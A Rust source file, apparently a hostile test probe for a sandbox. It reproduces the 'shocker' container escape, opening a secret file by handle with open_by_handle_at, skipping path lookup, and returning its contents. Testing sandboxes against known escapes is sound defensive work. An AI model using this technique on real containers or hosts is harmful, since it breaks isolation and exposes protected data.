//! Files: opens a secret by its file handle with open_by_handle_at, which
//! bypasses path lookup altogether (the "shocker" container escape).
//! The mount fd is AT_FDCWD (the working directory, on the secret's
//! filesystem). Input: the handle type, then the handle bytes in hex (the
//! test computes them with name_to_handle_at).

fn main() {
    pw_hostile::attack(|input| {
        let kind: i32 = pw_hostile::param(input, 0)?
            .parse()
            .map_err(|_| "bad handle type")?;
        let hex = pw_hostile::param(input, 1)?;
        let bytes: Vec<u8> = (0..hex.len() / 2)
            .map(|i| {
                u8::from_str_radix(&hex[2 * i..2 * i + 2], 16)
                    .map_err(|_| "bad handle hex".to_string())
            })
            .collect::<Result<_, _>>()?;
        // struct file_handle { u32 handle_bytes; i32 handle_type; u8 f_handle[]; }
        let mut handle = Vec::with_capacity(8 + bytes.len());
        handle.extend_from_slice(&(bytes.len() as u32).to_ne_bytes());
        handle.extend_from_slice(&kind.to_ne_bytes());
        handle.extend_from_slice(&bytes);
        // SAFETY: handle holds a complete struct file_handle of the declared size.
        let fd = unsafe {
            libc::syscall(
                libc::SYS_open_by_handle_at,
                libc::AT_FDCWD,
                handle.as_ptr(),
                libc::O_RDONLY | libc::O_CLOEXEC,
            )
        };
        pw_hostile::check("open_by_handle_at", fd)?;
        let content = pw_hostile::read_fd(fd as i32)?;
        Ok(String::from_utf8_lossy(&content).into_owned())
    })
}
